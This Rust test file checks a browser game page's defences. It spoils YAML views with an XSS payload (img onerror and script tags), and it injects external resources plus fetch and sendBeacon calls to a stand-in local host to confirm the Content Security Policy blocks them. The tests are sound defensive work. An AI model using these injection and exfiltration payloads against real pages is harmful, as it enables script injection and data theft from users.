//! What the page lets in and out: markup in a view stays text, a damaged view is told to be one, and nothing is sent to
//! anybody else.

use super::{
    DESK, PHONE, firefox, handling::opened, in_firefox, open, page, pick, tap, text, type_in,
    views, wait,
};
use crate::{
    browser::{Browser, browser, copy, server::serve},
    cli::bench::Bench,
};
use chronojudge::yaml::keep;
use serde_json::{Value, json};
use std::{
    collections::BTreeSet,
    fs,
    io::Read as _,
    net::TcpListener,
    path::{Path, PathBuf},
    thread::sleep,
    time::Duration,
};

/// A name that runs a script where it is taken for a part of the page: as an element, or out of an attribute.
const MARKUP: &str =
    "\"'><img src=x onerror=\"globalThis.ran=1\"><script>globalThis.ran=1</script>";

/// Elements that the page has of a view alone if it took a name for markup.
const HARM: &str = "document.querySelectorAll('img, [onerror], header script, #play script').length + (globalThis.ran ?? 0)";

/// Adds the names of all entries with a text.
fn names(value: &Value, found: &mut BTreeSet<String>) {
    match value {
        Value::Object(entries) => {
            for (name, one) in entries {
                if one.is_string() {
                    found.insert(name.clone());
                }
                names(one, found);
            }
        }
        Value::Array(all) => all.iter().for_each(|one| names(one, found)),
        _ => (),
    }
}

/// Writes markup into every entry of this name that has a text.
fn spoil(value: &mut Value, name: &str) {
    match value {
        Value::Object(entries) => {
            for (key, one) in entries {
                match one {
                    Value::String(text) if key == name => MARKUP.clone_into(text),
                    one => spoil(one, name),
                }
            }
        }
        Value::Array(all) => all.iter_mut().for_each(|one| spoil(one, name)),
        _ => (),
    }
}

fn read(view: &Path) -> Value {
    let text = fs::read_to_string(view).expect("a view");
    keep::from_str(&text).expect("a view")
}

fn written(view: &Value) -> String {
    keep::to_string(view).expect("YAML")
}

/// Gives a view to the page, and waits until it is shown or refused; returns what the page says of it.
fn tried(browser: &mut Browser, view: &str) -> String {
    browser.ask(
        "document.getElementById('status').textContent = 'waiting'; \
         document.getElementById('rest').replaceChildren(); localStorage.clear()",
    );
    pick(browser, view);
    wait(
        browser,
        "{ const said = document.getElementById('status').textContent; \
           said !== 'waiting' && (said !== '' || document.getElementById('rest').childElementCount > 0) }",
    );
    text(browser, "status")
}

/// Each kind of text in a view can hold markup: such a view is refused, or its markup is shown as it is written. The page shows
/// all of it at once that is not refused.
#[test]
fn markup_in_a_view_stays_text() {
    let (Some(page), Some(mut browser)) = (page(), browser()) else {
        return;
    };
    let bench = Bench::empty();
    let (mut shown, mut refused) = (0, 0);
    for (name, view) in views(&bench) {
        let whole = read(&view);
        let mut kinds = BTreeSet::new();
        names(&whole, &mut kinds);
        let mut all = whole.clone();
        for kind in kinds {
            // Markup in one kind of text, and in all kinds together that can be shown together.
            let [alone, together] = [&whole, &all].map(|view| {
                let mut spoiled = view.clone();
                spoil(&mut spoiled, &kind);
                bench.write("spoiled.view.yaml", written(&spoiled));
                let look = bench.run(&["look", "spoiled.view.yaml", "--json"]);
                (look.code == 0).then(|| {
                    let look: Value = serde_json::from_str(&look.out).expect("JSON");
                    let html = look["html"].as_str().expect("a report");
                    assert!(!html.contains("<img"), "{name}: {kind}");
                    spoiled
                })
            });
            match alone {
                Some(_) => shown += 1,
                None => refused += 1,
            }
            all = together.unwrap_or(all);
        }
        open(&mut browser, &page, PHONE);
        assert_eq!(tried(&mut browser, &written(&all)), "", "{name}");
        assert_eq!(browser.ask(HARM), 0, "{name}");
        // The name of the seat stands in keys, too.
        let seat = whole["seat"].as_str().expect("a seat");
        let quoted = serde_json::to_string(MARKUP).expect("a text");
        let spoiled = whole.to_string().replace(&json!(seat).to_string(), &quoted);
        let spoiled = serde_json::from_str(&spoiled).expect("JSON");
        tried(&mut browser, &written(&spoiled));
        assert_eq!(browser.ask(HARM), 0, "{name}: the seat");
    }
    assert!(
        shown > 0 && refused > 0 && shown + refused > 30,
        "{shown} shown, {refused} refused"
    );
}

/// Returns a whole view, and what comes of it by damage: what the page should say, which is nothing if it opens the view.
fn damaged(view: &Path) -> Vec<(&'static str, String, &'static str)> {
    let whole = fs::read_to_string(view).expect("a view");
    let data = read(view);
    let mut strange = data.clone();
    strange["nonsense"] = json!([1, 2]);
    let mut empty = data;
    empty["view"] = json!({});
    // A line of a comment has a hundred bytes.
    let long = format!(
        "{whole}{}",
        format!("# {}\n", "x".repeat(97)).repeat(105_000)
    );
    assert!(long.len() > 10 << 20);
    vec![
        ("ten megabytes", long, ""),
        ("another key", written(&strange), "nonsense"),
        (
            "nothing seen",
            written(&empty),
            "Save it again from the mail",
        ),
        ("half", whole[..whole.len() / 2].to_owned(), "view"),
    ]
}

/// A long view is opened. One that is cut short, or says what no view says, is told to be damaged, and the view
/// that is open is played on.
#[test]
fn a_damaged_view_is_told_to_be_one() {
    let (Some(page), Some(mut browser)) = (page(), browser()) else {
        return;
    };
    let bench = Bench::empty();
    for (n, (name, view)) in views(&bench).iter().enumerate() {
        opened(&mut browser, &page, view, PHONE);
        // To read ten megabytes takes long, and is the same for each game.
        for (what, damaged, says) in damaged(view).into_iter().skip(usize::from(n > 0)) {
            let said = tried(&mut browser, &damaged);
            assert_eq!(said.is_empty(), says.is_empty(), "{name}, {what}: {said}");
            assert!(said.contains(says), "{name}, {what}: {said}");
            assert!(!said.contains("template"), "{name}, {what}: {said}");
        }
        let before = text(&mut browser, "orders");
        tap(&mut browser, &before);
    }
}

/// A script that a page makes itself, out of a text, does not run; the thread of the program, which is made so, does.
#[test]
fn a_script_made_of_a_text_does_not_run() {
    let (Some(page), Some(mut browser)) = (page(), browser()) else {
        return;
    };
    open(&mut browser, &page, PHONE);
    browser.ask(
        "{ globalThis.refused = []; \
           addEventListener('securitypolicyviolation', ({effectiveDirective, blockedURI}) => refused.push(`${effectiveDirective} ${blockedURI}`)); \
           const src = URL.createObjectURL(new Blob(['globalThis.ran = 1'], {type: 'text/javascript'})); \
           document.body.append(Object.assign(document.createElement('script'), {src})); 0 }",
    );
    wait(&mut browser, "refused.includes('script-src-elem blob')");
    assert_eq!(browser.ask(HARM), 0);
}

/// Firefox takes markup and damage as Chromium does.
#[test]
fn hostile_views_do_no_harm_in_firefox() {
    let (Some(page), Some(firefox)) = (page(), firefox()) else {
        return;
    };
    let bench = Bench::empty();
    let (_, view) = views(&bench).swap_remove(0);
    let mut spoiled = read(&view);
    spoil(&mut spoiled, "game");
    // The program takes as long for ten megabytes in each browser.
    let mut files = damaged(&view).split_off(1);
    files.push(("markup", written(&spoiled), ""));
    let seen: Vec<String> = { files.iter() }
        .enumerate()
        .map(|(n, (_, text, _))| {
            let file = format!("hostile-{n}.view.yaml");
            bench.write(&file, text);
            format!("hostile:{}", bench.dir().join(file).display())
        })
        .collect();
    let all = in_firefox(&firefox, &page, &seen);
    assert_eq!(all.len(), files.len());
    for (told, (what, _, says)) in all.iter().zip(&files) {
        let said = told["status"].as_str().expect("words");
        assert_eq!(said.is_empty(), says.is_empty(), "{what}: {said}");
        assert!(said.contains(says), "{what}: {said}");
        assert_eq!(told["harm"], 0, "{what}");
        assert_eq!(told["errors"], json!([]), "{what}");
    }
}

/// What a player wrote is there again when they come back, and what came with the report is one Undo away.
#[test]
fn a_draft_comes_back_after_a_reload() {
    let (Some(page), Some(mut browser)) = (page(), browser()) else {
        return;
    };
    let bench = Bench::empty();
    for (name, view) in views(&bench) {
        let before = opened(&mut browser, &page, &view, DESK);
        tap(&mut browser, &before);
        let tapped = text(&mut browser, "orders");
        let mine = format!("{tapped}\n# my own note\n");
        type_in(&mut browser, &mine);
        let kept = "Object.values(localStorage).some((one) => one.includes('# my own note'))";
        wait(&mut browser, kept);
        open(&mut browser, &page, DESK);
        assert_eq!(text(&mut browser, "orders"), "", "{name}: a new page");
        pick(&mut browser, &fs::read_to_string(&view).expect("a view"));
        wait(
            &mut browser,
            "document.querySelectorAll('#decisions>li').length > 0",
        );
        assert_eq!(text(&mut browser, "orders"), mine, "{name}");
        let said = text(&mut browser, "status");
        assert!(said.contains("draft of your last visit"), "{name}: {said}");
        browser.ask("document.getElementById('undo').click()");
        let back = format!(
            "document.getElementById('orders').value === {}",
            json!(before)
        );
        wait(&mut browser, &back);
    }
}

/// Serves the page and a game from a site, and plays it; the site alone is asked. What a script put into the page would send to
/// others does not leave it.
#[test]
fn the_page_asks_nobody_but_its_site() {
    let (Some(page), Some(mut browser)) = (page(), browser()) else {
        return;
    };
    let bench = Bench::empty();
    let www: PathBuf = bench.dir().join("www");
    fs::create_dir_all(www.join("play")).expect("a folder");
    copy(&page, &www.join("play/index.html"));
    let site = serve(www);
    let others = TcpListener::bind("127.0.0.1:0").expect("a port");
    others.set_nonblocking(true).expect("a port");
    let other = format!("http://{}", others.local_addr().expect("an address"));
    browser.size(PHONE, 900);
    browser.watch_requests();
    browser.open_at(&format!("{site}/play/"), false);
    wait(&mut browser, "document.body.dataset.ready === 'true'");
    for (_, view) in views(&bench) {
        browser.ask("document.getElementById('decisions').replaceChildren(); localStorage.clear()");
        pick(&mut browser, &fs::read_to_string(view).expect("a view"));
        wait(
            &mut browser,
            "document.querySelectorAll('#decisions>li').length > 0",
        );
        let before = text(&mut browser, "orders");
        tap(&mut browser, &before);
        browser.ask("document.getElementById('try').click()");
        wait(
            &mut browser,
            "document.querySelector('#tried :is(table, p, ul)') !== null",
        );
    }
    let requests = browser.requests();
    assert!(!requests.is_empty());
    let own = ["data:".to_owned(), "blob:".to_owned(), format!("{site}/")];
    let foreign: Vec<&String> = { requests.iter() }
        .filter(|address| !own.iter().any(|begin| address.starts_with(begin)))
        .collect();
    assert!(foreign.is_empty(), "{foreign:?}");
    // An image, a style sheet, a frame and a script of somebody else, and what a script would send.
    browser.ask(&format!(
        "{{ globalThis.refused = []; \
            addEventListener('securitypolicyviolation', ({{effectiveDirective}}) => refused.push(effectiveDirective)); \
            document.getElementById('rest').innerHTML = '<img src=\"{other}/a.png\"><iframe src=\"{other}/b\"></iframe>\
                <link rel=\"stylesheet\" href=\"{other}/c.css\"><b style=\"background:url({other}/d.png)\">b</b>'; \
            document.body.append(Object.assign(document.createElement('script'), {{src: '{other}/e.js'}})); \
            fetch('{other}/f').catch(() => {{}}); \
            navigator.sendBeacon('{other}/g', 'orders'); 0 }}"
    ));
    for directive in [
        "img-src",
        "frame-src",
        "style-src-elem",
        "script-src-elem",
        "connect-src",
    ] {
        wait(&mut browser, &format!("refused.includes('{directive}')"));
    }
    // For a frame Chromium opens a connection before it asks the policy, and sends nothing over it.
    sleep(Duration::from_millis(500));
    while let Ok((mut stream, _)) = others.accept() {
        stream.set_nonblocking(true).expect("a connection");
        let mut sent = vec![];
        // All that has come is read, until there is no more.
        let _ = stream.read_to_end(&mut sent);
        assert_eq!(String::from_utf8_lossy(&sent), "");
    }
}
